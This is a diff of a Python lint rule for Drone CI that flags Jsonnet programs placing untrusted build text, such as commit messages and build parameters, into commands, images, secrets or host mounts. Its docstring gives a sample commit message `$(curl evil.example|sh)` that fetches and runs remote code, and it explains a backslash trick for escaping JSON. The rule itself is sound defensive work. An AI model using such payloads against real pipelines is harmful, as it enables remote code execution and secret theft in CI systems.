@@ -1,4 +1,4 @@
-"""Text of strangers that a Jsonnet program puts into its pipelines."""
+"""Untrusted text that a Jsonnet program inserts into its pipelines."""
 
 from __future__ import annotations
 
@@ -36,23 +36,23 @@ _SHELL = {
     "build.target": "DRONE_TARGET_BRANCH",
     "build.ref": "DRONE_COMMIT_REF",
 }
-"""What a step has of the same in its environment."""
+"""The environment variable of a step with the same content."""
 _CODE = ("commands", "command", "entrypoint")
 _POD = (("service_account_name",), ("node_name",), ("host_aliases",), ("dns_config",))
 
 
 class JsonnetInjection(Rule):
-    r"""A Jsonnet program puts text that a stranger wrote into a pipeline.
+    r"""A Jsonnet program inserts untrusted text into a pipeline.
 
-    `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and the like hold what people without any rights wrote, and `build.param.*` what
-    whoever starts a build chose. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
-    runs it. In `image` it chooses what runs, in `from_secret` which secret is given, in `host.path` what of the host is mounted.
+    `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and similar variables contain text of users without any permissions, and `build.param.*` contains
+    values that the user who starts a build chooses. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
+    runs that command. In `image` the text decides which image runs, in `from_secret` which secret the step gets, and in `host.path` what is mounted from the host.
 
-    Elsewhere, too: in the JSON that the server makes of the program the text is escaped, but a runner afterwards replaces `${...}` and takes backslashes away in the
-    whole of it. A message with `\"` in it then ends the string and goes on with keys of its own.
+    Other keys are affected, too: the server escapes the text in the JSON that it generates, but the runner then replaces `${...}` and removes backslashes in all of
+    that JSON. A message that contains `\"` then ends the string and can add keys.
 
-    The value is followed through functions, formats and libraries. What only decides (`if std.extVar('build.branch') == 'main'`) is no finding, but for `privileged`.
-    Names of branches outside of commands, images and such choices are reported by the pedantic profile only; build parameters are notices.
+    drone-lint tracks the value through functions, formats and libraries. A value that is only compared (`if std.extVar('build.branch') == 'main'`) is not reported, unless it decides `privileged`.
+    Branch names are reported outside commands, images and similar keys only by the pedantic profile; build parameters are notices.
 
     Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
     """
@@ -61,7 +61,7 @@ class JsonnetInjection(Rule):
     severity = Severity.WARNING
     confidence = Confidence.MEDIUM
     trigger = Trigger(fact="Arrival")
-    why = "the server escapes it for JSON only: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
+    why = "the server escapes the text only for JSON: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
     references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))
 
     bad = (
@@ -170,7 +170,7 @@ class JsonnetInjection(Rule):
     )
 
     def check_file(self, file: ConfigFile) -> Iterator[Finding]:
-        if self.settings.profile == "drone":  # no refusal of Drone's, and costly to find
+        if self.settings.profile == "drone":  # Drone does not refuse this, and it is costly to find
             return
         for arrival in file.facts(Arrival):
             if isinstance(arrival.place, Place):
@@ -184,13 +184,13 @@ class JsonnetInjection(Rule):
             return
         guarded = not free and (variable is None or (step is not None and step_events(step) <= GUARDED))
         severity = Severity.WARNING if severe and not guarded else Severity.NOTICE
-        related = [("read here", arrival.read_at)] if arrival.read_at is not None else []
+        related = [("the program reads it here", arrival.read_at)] if arrival.read_at is not None else []
         message = _message(arrival.variable, place, where, step)
         yield self.finding(place, message, severity=severity, related=related, help=_help(arrival.variable, where))
 
 
 def _sink(place: Place) -> str:
-    """What the text becomes: `code`, `image`, `privileged`, another `choice` of what a build may reach, or `other`."""
+    """What the text becomes: `code`, `image`, `privileged`, another `choice` that decides what a build can access, or `other`."""
     path = place.path
     key = path[2] if len(path) > 2 and path[0] in ("steps", "services") else ""
     if key in _CODE:
@@ -209,26 +209,26 @@ def _step(place: Place) -> Step | None:
 
 
 def _message(name: str, place: Place, where: str, step: Step | None) -> str:
-    who = "its author" if name in _FREE else "whoever starts the build"
+    who = "its author" if name in _FREE else "the user who starts the build"
     if name in _SHELL and name not in _FREE:
         who = writer(_SHELL[name], step_events(step) if step is not None else frozenset(place.document.events or EVENTS))
     title = step.title if step is not None else ""
     if where == "code":
-        return f"`{name}` becomes part of a command of {title}: {who} can put commands there"
+        return f"`{name}` becomes part of a command of {title}, so {who} can run commands"
     if where == "image":
-        return f"`{name}` is part of the image of {title}: {who} chooses what runs"
+        return f"`{name}` is part of the image of {title}, so {who} can choose what runs"
     if where == "privileged":
-        return f"`{name}` decides whether {title} is privileged: {who} chooses"
+        return f"`{name}` decides whether {title} is privileged, so {who} can choose that"
     if where == "choice":
-        return f"`{name}` chooses `{place.path[-1]}`{title and ' of ' + title}: {who} can name another"
+        return f"`{name}` sets `{place.path[-1]}`{title and ' of ' + title}, so {who} can choose another value"
     keys = ".".join(key for key in (place.path[2:] if title else place.path) if isinstance(key, str)) or "the configuration"
     return f"`{name}` becomes part of `{keys}`{title and ' of ' + title}, where runners still replace `${{...}}` and backslashes in it"
 
 
 def _help(name: str, where: str) -> str:
     if where in ("image", "choice"):
-        return "choose among values that the program names: `if ... then 'a' else 'b'`"
+        return "choose from fixed values in the program: `if ... then 'a' else 'b'`"
     if where == "privileged":
-        return "decide by what only maintainers choose: the event, or the target branch"
+        return "decide by a value that only maintainers control: the event, or the target branch"
     variable = _SHELL.get(name, name.removeprefix("build.param."))
-    return f'let the step read its own environment, in double quotes: `"${variable}"`'
+    return f'let the step read the variable from its environment, in double quotes: `"${variable}"`'
